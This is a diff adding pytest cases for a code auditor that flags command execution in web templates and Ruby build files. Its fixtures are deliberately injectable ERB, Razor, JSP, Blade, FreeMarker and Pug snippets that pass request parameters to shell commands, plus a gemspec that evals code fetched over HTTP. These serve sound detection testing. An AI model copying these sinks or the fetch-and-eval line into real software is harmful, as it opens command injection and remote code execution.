@@ -6,6 +6,7 @@ import time
 
 import pytest
 
+from auditor.forensics.source_text.embedded_scripts import extract_scripts
 from auditor.forensics.source_text.quoted_test_paths import quoted_relative_paths
 from tests.adversarial.authors.gated import audit_change, gate, link
 from tests.repos import Content, Drawing
@@ -109,6 +110,66 @@ def test_pages_with_calm_scripts_or_none_pass(drawing: Drawing, path: str, sourc
     assert seen.ended == "passed"
 
 
+TEMPLATES = [
+    ("app/views/label.html.erb", "Ruby", "<p>x</p>\n<%- @rows.each do |row| -%>\n<% system(\"lp #{row.name}\") %>\n<%- end -%>\n"),
+    ("config/label.sh.rhtml", "Ruby", "x\n<%== IO.popen(\"lp #{params[:name]}\").read -%>\n"),
+    ("app/views/label.slim", "Ruby", "doctype html\n- if params[:name]\n  p = `lp #{params[:name]}`\n"),
+    ("app/views/label.html.haml", "Ruby", "!!!\n%ul{class: 'a'}\n  %li Printed #{system(\"lp #{params[:name]}\")}\n"),
+    ("Shop/Label.cshtml", "C#", "@using System.Diagnostics\n<p>@Model.Name</p>\n@if (Model.Name != null) {\n  Process.Start(\"sh\", \"-c \\\"lp \" + Model.Name + \"\\\"\");\n}\n"),
+    ("Shop/Label.razor", "C#", "<p>x</p>\n@functions {\n  void Print(string n) {\n    System.Diagnostics.Process.Start(\"bash\", $\"-c \\\"lp {n}\\\"\");\n  }\n}\n"),
+    ("web/label.aspx", "C#", "<%@ Page Language=\"C#\" %>\n<% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c lp \" + Request[\"n\"]); %>\n"),
+    ("web/label.jsp", "Java", "<%@ page import=\"java.io.*\" %>\n<%!\n  void print(String n) throws IOException {\n    Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"lp \" + n});\n  }\n%>\n<% print(request.getParameter(\"n\")); %>\n"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("path", "title", "source"), TEMPLATES, ids=[each[0] for each in TEMPLATES])
+def test_code_of_templates_is_analysed_and_the_rest_is_said_to_be_text(
+    drawing: Drawing, path: str, title: str, source: str
+) -> None:
+    seen = audit_change(drawing, {}, {path: source})
+    assert seen.coverage(path) == ("text", f"read as text, its code as {title}")
+    assert seen.finds(path)
+    assert seen.ended == "failed"
+
+
+@pytest.mark.parametrize(
+    ("path", "source"),
+    [
+        ("resources/views/label.blade.php", "<ul>\n@foreach (request('names') as $name)\n  @php\n    exec('lp ' . $name);\n  @endphp\n@endforeach\n</ul>\n"),
+        ("resources/views/label.blade.php", "@extends('page')\n<p>{!! shell_exec('lp ' . request()->input('name')) !!}</p>\n"),
+        ("app/views/label.pdf.prawn", "pdf.text `lp #{params[:name]}`\n"),
+        ("app/views/label.json.jbuilder", "json.label @label\neval(params[:name])\n"),
+        ("shop.gemspec", "Gem::Specification.new do |spec|\n  spec.name = 'shop'\n  eval(Net::HTTP.get(URI('https://example.org/x')))\nend\n"),
+        ("Gemfile", "source 'https://rubygems.org'\nsystem(\"lp #{ENV['NAME']}\")\n"),
+    ],
+)  # fmt: skip
+def test_views_and_build_files_in_a_known_language_are_analysed(drawing: Drawing, path: str, source: str) -> None:
+    seen = audit_change(drawing, {}, {path: source})
+    assert seen.coverage(path) == ("analysed", "")
+    assert seen.finds(path)
+
+
+@pytest.mark.parametrize(
+    ("path", "source"),
+    [
+        ("app/views/label.html.erb", "<p>`lp x`</p>\n<%# system(params[:name]) %>\n<%= form_with model: @label do |f| %>\n<%= f.text_field :name, value: params[:name] %>\n<% end %>\n<%% eval(x) %>\n"),
+        ("app/views/label.slim", "h1 Labels `lp`\n- @rows.each do |row|\n  p.a = row.name\n- if row\n  a href=label_path(row) class=\"a\" = row.title\n- else\n  p eval(x)\n"),
+        ("app/views/label.haml", "%h1 Labels\n-# system(params[:name])\n- @rows.each do |row|\n  %p{title: row.name}= row.name\n"),
+        ("Shop/Label.cshtml", "@model Label\n<p>@Model.Name (@Html.Raw(\"x\")) me@example.org</p>\n@foreach (var row in Model.Rows) {\n  <li>@row.Name Process.Start(a)</li>\n}\n@media (print) { }\n"),
+        ("Shop/Label.razor", "<p>@Name</p>\n@code {\n  [Parameter] public string Name { get; set; } = \"\";\n  void Print() { Name = Name.Trim(); }\n}\n"),
+        ("resources/views/label.blade.php", "@extends('page')\n<p>{{ $name }} exec($name) @{{ exec(name) }}</p>\n{{-- {{ exec($name) }} --}}\n@include('row', ['name' => $name])\n"),
+        ("web/label.jsp", "<%@ page import=\"java.util.*\" %>\n<%-- Runtime.getRuntime().exec(name) --%>\n<p><%= rows.size() %></p>\n"),
+        ("web/label.aspx", "<%@ Page Language=\"VB\" %>\n<% Dim a = Request(\"n\") %>\n<p>x</p>\n"),
+        ("shop.gemspec", "Gem::Specification.new do |spec|\n  spec.files = `git ls-files`.split\n  spec.version = File.read('VERSION').strip\nend\n"),
+        ("Gemfile", "source 'https://rubygems.org'\neval_gemfile 'gems/common.rb'\ngem 'rails', '~> 8.0'\n"),
+    ],
+)  # fmt: skip
+def test_calm_templates_pass(drawing: Drawing, path: str, source: str) -> None:
+    seen = audit_change(drawing, {}, {path: source})
+    assert not seen.finds(path)
+    assert seen.ended == "passed"
+
+
 @pytest.mark.parametrize(
     ("path", "source", "title"),
     [
@@ -119,6 +180,8 @@ def test_pages_with_calm_scripts_or_none_pass(drawing: Drawing, path: str, sourc
         ("shop/label.c", "int main(int n, char **a) {\n    system(a[1]);\n    return 0;\n}\n", "C"),
         ("shop/label.cpp", "int main(int n, char **a) {\n    system(a[1]);\n    return 0;\n}\n", "C++"),
         ("tool/label.ps1", "param($n)\nInvoke-Expression $n\n$a = 1\n$b = 2\n", "PowerShell"),
+        ("web/label.ftl", "<#assign run='freemarker.template.utility.Execute'?new()>\n${run('lp x')}\n<p>\n</p>\n", "FreeMarker"),
+        ("web/label.pug", "- const { exec } = require('child_process')\n- exec('lp ' + name)\np x\np y\n", "Pug"),
         ("tool/label.bat", "@echo off\n%1\nrem x\nexit /b\n", "Batch"),
     ],
 )  # fmt: skip
@@ -231,3 +294,11 @@ def test_quoted_paths_are_looked_for_in_time(text: str) -> None:
     started = time.process_time()
     quoted_relative_paths(f"{text} tests", "rust")
     assert time.process_time() - started < 2
+
+
+@pytest.mark.parametrize("path", ["a.erb", "a.cshtml", "a.jsp", "a.blade.php", "a.aspx", "a.slim"])
+@pytest.mark.parametrize("unit", ["<%", "@{", "@a.b(", "{{", "#{", "<jsp:scriptlet>", "<script runat=x>", "@if(a{"])
+def test_templates_that_open_code_without_end_are_read_in_time(path: str, unit: str) -> None:
+    begun = time.monotonic()
+    extract_scripts("@section\n" + unit * 8_000, path.rpartition(".")[2])
+    assert time.monotonic() - begun < 8
